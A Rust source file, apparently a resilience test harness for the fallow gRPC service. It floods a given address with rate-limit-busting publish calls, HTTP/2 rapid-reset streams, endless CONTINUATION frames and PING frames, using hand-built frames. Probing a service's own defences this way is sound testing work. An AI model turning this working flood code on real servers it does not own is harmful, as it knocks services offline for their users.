//! The caller that does harm, in a process of its own, so that its work is not ours: at an even pace that is given, for
//! whoever sends as fast as the machine can takes its processor, and that says nothing of the service.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use anyhow::Result;
use clap::{Args, ValueEnum};
use fallow_api::client::{Client, Settings, fresh_request_id};
use fallow_api::v1::PublishOfferRequest;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, MissedTickBehavior, interval, sleep_until};
use tonic::Code;

use super::feed::{SITE, offer};

/// A hundred times the twenty calls a second that a trust may publish, sent every hundredth of a second.
const NOISE_EACH: u32 = 20;
const NOISE_EVERY: Duration = Duration::from_millis(10);
/// Connections that do harm beside one another, and how often each writes: 20,000 frames a second together, and streams
/// where they are opened and reset.
const ATTACKERS: usize = 4;
const WRITES_EVERY: Duration = Duration::from_millis(20);
/// Frames of one write, and streams of one where they are opened and reset.
const A_ROUND: u32 = 100;

/// What is done to the service.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Harm {
    NoisyTrust,
    RapidReset,
    Continuation,
    Pings,
}

/// What `wire-attack` is asked.
#[derive(Debug, Args)]
pub(crate) struct Options {
    #[arg(long)]
    harm: Harm,
    /// Where the service is, `http://` and all.
    #[arg(long)]
    address: String,
    /// The credential of the trust that is noisy.
    #[arg(long)]
    token: String,
    /// How long harm is done, in milliseconds.
    #[arg(long)]
    millis: u64,
}

/// What was done, and what the service did about it.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Done {
    /// Calls, streams or frames that were sent.
    pub(crate) sent: u64,
    /// Calls that were refused as too many.
    pub(crate) refused: u64,
    /// Connections that were made, and those that the service ended.
    pub(crate) connections: u64,
    pub(crate) ended: u64,
}

#[derive(Default)]
struct Counts {
    sent: AtomicU64,
    refused: AtomicU64,
    connections: AtomicU64,
    ended: AtomicU64,
}

fn count(counter: &AtomicU64, by: u32) {
    counter.fetch_add(u64::from(by), Ordering::Relaxed);
}

impl Harm {
    pub(crate) const ALL: [Self; 4] = [Self::NoisyTrust, Self::RapidReset, Self::Continuation, Self::Pings];

    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::NoisyTrust => "a trust at 100 times its limit",
            Self::RapidReset => "streams opened and reset",
            Self::Continuation => "heads without end",
            Self::Pings => "pings",
        }
    }

    /// Returns how it is called as an argument.
    pub(crate) const fn argument(self) -> &'static str {
        match self {
            Self::NoisyTrust => "noisy-trust",
            Self::RapidReset => "rapid-reset",
            Self::Continuation => "continuation",
            Self::Pings => "pings",
        }
    }

    /// Says whether the service ends the connections of who does it.
    pub(crate) const fn is_ended(self) -> bool {
        match self {
            Self::RapidReset | Self::Continuation => true,
            Self::NoisyTrust | Self::Pings => false,
        }
    }

    /// Returns the frames of one write, the streams counted on from `round`.
    fn frames(self, round: u32) -> Vec<u8> {
        let streams = (0..A_ROUND).map(|number| (round * A_ROUND + number) * 2 + 1);
        match self {
            Self::NoisyTrust => Vec::new(),
            Self::RapidReset => streams
                .flat_map(|stream| [frame(1, 5, stream, &head()), frame(3, 0, stream, &[0, 0, 0, 8])])
                .flatten()
                .collect(),
            Self::Continuation if round == 0 => frame(1, 1, 1, &head()),
            Self::Continuation => (0..A_ROUND).flat_map(|_| frame(9, 0, 1, b"\0\x01x\x01y")).collect(),
            Self::Pings => (0..A_ROUND).flat_map(|_| frame(6, 0, 0, b"pingpong")).collect(),
        }
    }
}

/// Does harm for its time, and prints what was done.
pub(crate) fn run(options: &Options) -> Result<()> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let done = runtime.block_on(attack(options))?;
    println!("{}", serde_json::to_string(&done)?);
    Ok(())
}

async fn attack(options: &Options) -> Result<Done> {
    let until = Instant::now() + Duration::from_millis(options.millis);
    let counts = Arc::new(Counts::default());
    let mut doing = JoinSet::new();
    match options.harm {
        Harm::NoisyTrust => {
            let client = Client::new(&Settings::at(&options.address).with_token(&options.token))?;
            doing.spawn(noise(client, until, counts.clone()));
        }
        Harm::RapidReset | Harm::Continuation | Harm::Pings => {
            let address = options.address.trim_start_matches("http://").to_owned();
            for _ in 0..ATTACKERS {
                doing.spawn(flood(address.clone(), options.harm, until, counts.clone()));
            }
        }
    }
    while doing.join_next().await.is_some() {}
    let of = |counter: &AtomicU64| counter.load(Ordering::Relaxed);
    Ok(Done {
        sent: of(&counts.sent),
        refused: of(&counts.refused),
        connections: of(&counts.connections),
        ended: of(&counts.ended),
    })
}

/// Publishes far above the limit, without waiting for answers.
async fn noise(client: Client, until: Instant, counts: Arc<Counts>) {
    let mut pace = interval(NOISE_EVERY);
    let mut calls = JoinSet::new();
    count(&counts.connections, 1);
    while Instant::now() < until {
        pace.tick().await;
        for number in 0..NOISE_EACH {
            let mut capacity = client.capacity();
            let request = PublishOfferRequest {
                request_id: fresh_request_id(),
                offer: Some(offer(SITE, &format!("noise {number}"), 1)),
                ..PublishOfferRequest::default()
            };
            count(&counts.sent, 1);
            let counts = counts.clone();
            calls.spawn(async move {
                let answer = capacity.publish_offer(request).await;
                let is_refused = answer.is_err_and(|status| status.code() == Code::ResourceExhausted);
                count(&counts.refused, u32::from(is_refused));
            });
        }
        // What is answered is forgotten.
        while calls.try_join_next().is_some() {}
    }
    calls.shutdown().await;
}

/// Keeps one connection after the other busy with frames, and takes the answers, until each is ended.
async fn flood(address: String, harm: Harm, until: Instant, counts: Arc<Counts>) {
    const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    let mut pace = interval(WRITES_EVERY);
    // What was held up is not made up for.
    pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
    while Instant::now() < until {
        pace.tick().await;
        let Ok(stream) = TcpStream::connect(&address).await else { continue };
        count(&counts.connections, 1);
        let (mut read, mut write) = stream.into_split();
        let taking = async {
            let mut answers = vec![0; 64 * 1024];
            while read.read(&mut answers).await.is_ok_and(|bytes| bytes > 0) {}
        };
        let sending = async {
            let mut bytes = HELLO.to_vec();
            for round in 0..u32::MAX / (4 * A_ROUND) {
                bytes.extend(harm.frames(round));
                if write.write_all(&bytes).await.is_err() {
                    break;
                }
                count(&counts.sent, A_ROUND);
                bytes.clear();
                pace.tick().await;
            }
        };
        tokio::select! {
            () = taking => count(&counts.ended, 1),
            () = sending => count(&counts.ended, 1),
            () = sleep_until(until) => {}
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a call, as HPACK writes it without a table: POST, http, the path, the kind.
fn head() -> Vec<u8> {
    let mut head = vec![0x83, 0x86];
    let path = "/fallow.v1.CapacityService/ListOffers";
    for (name, value) in [(":path", path), (":authority", "fallow"), ("content-type", "application/grpc")] {
        head.push(0);
        for text in [name, value] {
            head.push(u8::try_from(text.len()).unwrap_or_default());
            head.extend(text.bytes());
        }
    }
    head
}
